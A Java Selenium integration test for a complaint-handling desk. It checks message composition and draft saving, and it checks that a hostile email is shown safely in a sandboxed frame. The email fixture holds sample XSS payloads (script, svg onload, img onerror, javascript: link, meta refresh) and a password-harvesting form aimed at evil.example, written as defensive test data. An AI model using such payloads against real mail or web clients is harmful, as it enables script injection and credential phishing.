package org.redress.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.UUID;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;

/** On the screens: a handler writes in every way, loses nothing, and looks at a hostile mail. */
@Journey
class ConversationJourneyIT {

    @TempDir
    Path folder;

    @Test
    void writesEveryKindOfMessageAndLosesNoDraft() {
        String number = readyToReply();
        try (Desk desk = Desk.of("handler").open(number)) {
            Browser browser = desk.browser();
            browser.press(By.id("tab-call"));
            browser.find(By.id("call:minutes")).sendKeys("12");
            browser.find(By.id("call:participants")).sendKeys("Mrs Customer");
            browser.find(By.id("call:text")).sendKeys("She asks when it comes.");
            sends(browser, "call");
            assertThat(browser.find(By.cssSelector(".bubble-call")).getText()).contains("12 min", "Mrs Customer", "She asks when it comes.");

            browser.press(By.id("tab-note"));
            browser.find(By.id("note:text")).sendKeys("Between us: the driver forgot it.");
            sends(browser, "note");
            assertThat(browser.find(By.cssSelector(".bubble-note")).getText()).contains("Internal note", "the driver forgot it");

            browser.press(By.id("tab-reply"));
            type(browser, "reply:body", "Dear Mrs Customer, a new one");
            saved(browser, "reply");
            browser.driver().navigate().refresh();
            assertThat(browser.find(By.id("reply:body")).getAttribute("value")).contains("Dear Mrs Customer, a new one");
            desk.isTakenBy("handler").open(number);
            assertThat(browser.find(By.id("reply:body")).getAttribute("value")).contains("Dear Mrs Customer, a new one");
            browser.photograph("conversation", 1280, 390);
            browser.darken(true);
            browser.photograph("conversation-dark", 1280, 390);
            browser.darken(false);

            browser.find(By.id("reply:body")).sendKeys(" is on its way.");
            sends(browser, "reply");
            assertThat(browser.find(By.cssSelector(".bubble-out")).getText()).contains("is on its way.");
            assertThat(browser.driver().findElement(By.id("composer")).getAttribute("data-drafts")).isEqualTo("[]");

            // What was said before our answer is no answer to it.
            assertThat(browser.driver().findElements(By.cssSelector(".bubble-call [data-message-do=dispute]"))).isEmpty();
        }
    }

    @Test
    @Tag("M13")
    @DisplayName("M13 a hostile mail is looked at and does nothing")
    void m13_showsAHostileMailSafelyAndTakesItAsEvidence() throws IOException {
        String number = readyToReply();
        Api.as("handler").post("cases/" + number + "/actions/reply", java.util.Map.of("body", "A new one is on its way.")).expecting(200);
        Path mail = Files.write(folder.resolve("yes.eml"), hostile().getBytes(StandardCharsets.UTF_8));
        try (Desk desk = Desk.of("handler").open(number)) {
            Browser browser = desk.browser();
            browser.press(By.cssSelector("[data-opens=do-confirm]"));
            browser.driver().findElement(By.cssSelector("#do-confirm [data-evidence] input[type=file]")).sendKeys(mail.toString());
            WebElement evidence = browser.find(By.cssSelector("#do-confirm textarea"));
            browser.patiently().until(driver -> evidence.getAttribute("value").contains("It works now."));
            assertThat(evidence.getAttribute("value")).contains("customer@example.com");

            desk.open(number);
            browser.press(By.cssSelector("details[data-mail] > summary"));
            WebElement frame = browser.find(By.cssSelector("iframe.mail-frame"));
            assertThat(frame.getAttribute("sandbox")).doesNotContain("allow-scripts", "allow-same-origin", "allow-forms");
            browser.driver().switchTo().frame(frame);
            assertThat(browser.find(By.tagName("b")).getText()).isEqualTo("works");
            assertThat(browser.driver().getPageSource()).doesNotContain("evil.example", "<script", "<svg", "<form", "javascript:", "http-equiv=\"refresh\"");
            assertThat(browser.driver().findElements(By.tagName("img"))).isEmpty();
            assertThat(browser.driver().findElement(By.tagName("details")).getText()).doesNotContain("old answer");
            browser.driver().switchTo().defaultContent();
            assertThat(browser.driver().getTitle()).doesNotContain("HACKED");
            browser.photograph("mail-safely", 1280, 390);

            browser.press(By.cssSelector("[data-mail-images]"));
            browser.patiently().until(driver -> frame.getAttribute("src").contains("images"));
            browser.driver().switchTo().frame(frame);
            assertThat(browser.driver().findElement(By.tagName("img")).getAttribute("src")).isEqualTo("https://evil.example/pixel.gif");
            browser.driver().switchTo().defaultContent();

            WebElement yes = browser.find(By.cssSelector(".bubble-in [data-message-do=confirm]"));
            yes.click();
            browser.patiently().until(ExpectedConditions.stalenessOf(yes));
            assertThat(desk.step()).isEqualTo("Resolved");
        }
    }

    private static String readyToReply() {
        return Walk.of("COMPLAINT").investigated().planned().number();
    }

    private static void type(Browser browser, String id, String text) {
        WebElement field = browser.find(By.id(id));
        field.clear();
        field.sendKeys(text);
    }

    private static void saved(Browser browser, String form) {
        browser.patiently().until(ExpectedConditions.textToBePresentInElementLocated(By.cssSelector("#" + form + " [data-draft-state]"), "saved"));
    }

    private static void sends(Browser browser, String form) {
        WebElement button = browser.find(By.id(form + ":do"));
        button.click();
        browser.patiently().until(ExpectedConditions.stalenessOf(button));
        browser.find(By.cssSelector(".case-head"));
    }

    private static String hostile() {
        return """
                From: A. Customer <customer@example.com>
                To: service@company.example
                Subject: Re: Your answer
                Message-ID: <%s@example.com>
                MIME-Version: 1.0
                Content-Type: text/html; charset=utf-8

                <meta http-equiv="refresh" content="0;url=https://evil.example/"><style>*{background:url(https://evil.example/x)}</style>
                <p>It <b>works</b> now.</p><script>top.document.title='HACKED'</script><svg onload="top.document.title='HACKED'"></svg>
                <img src="https://evil.example/pixel.gif" onerror="top.document.title='HACKED'"><a href="javascript:top.document.title='HACKED'">x</a>
                <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
                <div class="gmail_quote">On Monday we wrote:<blockquote>the old answer</blockquote></div>
                """.formatted(UUID.randomUUID()).replace("\n", "\r\n");
    }
}
